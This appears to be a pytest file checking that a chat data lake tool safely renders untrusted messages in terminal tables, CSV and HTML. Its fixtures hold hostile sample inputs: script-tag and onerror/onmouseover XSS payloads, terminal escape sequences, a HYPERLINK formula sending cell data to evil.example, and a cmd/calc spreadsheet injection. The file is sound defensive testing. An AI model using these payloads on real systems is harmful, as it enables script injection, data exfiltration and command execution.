"""Chat content is untrusted wherever it is shown: terminal tables (no markup, no control sequences), CSV (no
spreadsheet formulas), HTML (escaped); JSON stays the exact data."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime, timedelta

import pytest

from chalicelib import etl, layout
from chalicelib.storage import FolderStorage
from chatlake import cli, query, report, ui
from chatlake.local import synthetic

DAY = date(2026, 11, 24)
GROUP = -1001234567
TITLE = "[/x] team <script>alert(1)</script>"
NAME = "[link=https://evil.example]click me[/link]"
ESCAPES = "\x1b]0;pwned\x07\x1b[2J cleared \x9b31m red \u202eevil"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
QUOTES = '" onmouseover="alert(1)'
WA_TYPE = '" onmouseover="alert(1)"><img src=x onerror=alert(1)>'


def telegram(update_id: int, text: str) -> bytes:
    when = int(datetime(DAY.year, DAY.month, DAY.day, 10, update_id, tzinfo=UTC).timestamp())
    return synthetic.telegram_bytes({"update_id": update_id, "message": {
        "message_id": update_id, "date": when, "text": text,
        "chat": {"id": GROUP, "type": "supergroup", "title": TITLE},
        "from": {"id": 700 + update_id, "is_bot": False, "first_name": NAME}}})


def whatsapp(kind: str) -> bytes:
    when = int(datetime(DAY.year, DAY.month, DAY.day, 11, tzinfo=UTC).timestamp())
    message = {"from": "34600111222", "id": "wamid.ODD", "timestamp": str(when), "type": kind}
    return synthetic.whatsapp_bytes({"object": "whatsapp_business_account", "entry": [{"id": synthetic.WABA_ID,
                                     "changes": [{"field": "messages", "value": {
                                         "messaging_product": "whatsapp", "metadata": dict(synthetic.METADATA),
                                         "contacts": [{"profile": {"name": QUOTES}, "wa_id": "34600111222"}],
                                         "messages": [message]}}]}]})


@pytest.fixture(scope="module")
def hostile_lake(tmp_path_factory: pytest.TempPathFactory) -> FolderStorage:
    storage = FolderStorage(tmp_path_factory.mktemp("hostile") / "lake")
    for n, text in enumerate((ESCAPES, FORMULA, "-5", "@here", QUOTES), 1):
        body = telegram(n, text)
        storage.put(layout.raw_key("telegram", DAY, body), body)
    body = whatsapp(WA_TYPE)
    storage.put(layout.raw_key("whatsapp", DAY, body), body)
    result = etl.run_day(storage, DAY)
    assert (result.messages, result.rejects) == (6, 0)
    return storage


@pytest.fixture
def local_lake(hostile_lake, tmp_path, monkeypatch):
    monkeypatch.setenv("DATALAKE_URL", str(hostile_lake.root))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return hostile_lake


# --- terminal ------------------------------------------------------------------------------------------------------

SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours and bold: the only escape sequences allowed out


def test_query_table_shows_chat_text_as_text(local_lake, monkeypatch, capsys):
    monkeypatch.setenv("TTY_COMPATIBLE", "1")  # rich writes styles (and would write links) as to a terminal
    sql_text = f"SELECT chat_title, sender_name, text FROM messages WHERE chat_id = '{GROUP}' ORDER BY sent_at"
    assert cli.main(["query", sql_text]) == 0
    out = capsys.readouterr().out
    assert "\x1b[1m" in out  # styles reach the terminal, so markup would have too
    plain = SGR.sub("", out)
    assert "\x1b" not in plain and "\x9b" not in plain and "\u202e" not in plain and "\x07" not in plain
    assert "[/x] team <script>alert(1)</script>" in plain and NAME in plain
    assert r"\x1b]0;pwned\x07\x1b[2J cleared \x9b31m red \u202eevil" in plain  # visible, and inert


def test_every_table_is_safe_whatever_its_caller(capsys):
    """status, etl, backfill and demo print through print_table as query does: titles and headers too."""
    ui.print_table([{"[bold]name": "[/x]", "n": 3}], ["[bold]name", "n"], title="lake [red]\x1b[2J")
    out = capsys.readouterr().out
    assert "[bold]name" in out and "[/x]" in out and r"lake [red]\x1b[2J" in out and "\x1b" not in out


def test_safe_text_keeps_what_is_only_text():
    assert ui.safe_text("héllo\tworld\n👍🏽 👨‍👩‍👧 [b] <i>") == "héllo\tworld\n👍🏽 👨‍👩‍👧 [b] <i>"
    assert ui.safe_text("\x00\x08\r\x7f\x85\u2066x\u2069\u200f") == r"\x00\x08\r\x7f\x85\u2066x\u2069\u200f"


def test_an_engine_error_quoting_chat_text_is_safe(local_lake, capsys):
    assert cli.main(["query", "SELECT CAST(text AS integer) FROM messages WHERE text LIKE '%pwned%'"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "pwned" in err and "\x1b" not in err and "\x9b" not in err


# --- CSV and JSON --------------------------------------------------------------------------------------------------


def test_csv_cells_never_start_a_formula(local_lake, capsys):
    assert cli.main(["query", "SELECT message_id, chat_id, text, -5 AS n, '+34600111222' AS phone FROM messages "
                     f"WHERE chat_id = '{GROUP}' ORDER BY sent_at", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["message_id", "chat_id", "text", "n", "phone"]
    assert [r[2] for r in rows[1:]] == [ESCAPES, "'" + FORMULA, "-5", "'@here", QUOTES]
    for message_id, chat_id, _, n, phone in rows[1:]:  # ids, numbers and phone numbers stay exact
        assert chat_id == str(GROUP) and message_id.startswith(f"{GROUP}:") and n == "-5" and phone == "+34600111222"


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("- a list item", "'- a list item"),
    ("-1001234567:42", "-1001234567:42"), ("+34 600 111 222", "+34 600 111 222"), ("-", "-"), ("a=b", "a=b"),
    (-5, "-5"), (None, ""),
])
def test_csv_value(value, cell):
    assert query.csv_value(value) == cell


def test_json_is_the_exact_data(local_lake, capsys):
    assert cli.main(["query", "SELECT chat_title, sender_name, text FROM messages "
                     f"WHERE chat_id = '{GROUP}' ORDER BY sent_at", "--format", "json"]) == 0
    got = json.loads(capsys.readouterr().out)
    assert [r["text"] for r in got] == [ESCAPES, FORMULA, "-5", "@here", QUOTES]
    assert got[0]["chat_title"] == TITLE and got[0]["sender_name"] == NAME


# --- HTML ----------------------------------------------------------------------------------------------------------


def test_the_report_escapes_chat_content(hostile_lake):
    html = report.build(query.DuckDBEngine(query.connect_duckdb(), hostile_lake), 3, today=DAY + timedelta(days=1))
    assert "<script" not in html and "<img" not in html and "onmouseover=\"" not in html
    assert "[/x] team &lt;script&gt;alert(1)&lt;/script&gt;" in html  # top chats: the title, shown as text
    # message types: the type as sent, shown as text (its quotes too: nothing breaks out of an attribute)
    assert "whatsapp: &quot; onmouseover=&quot;alert(1)&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in html
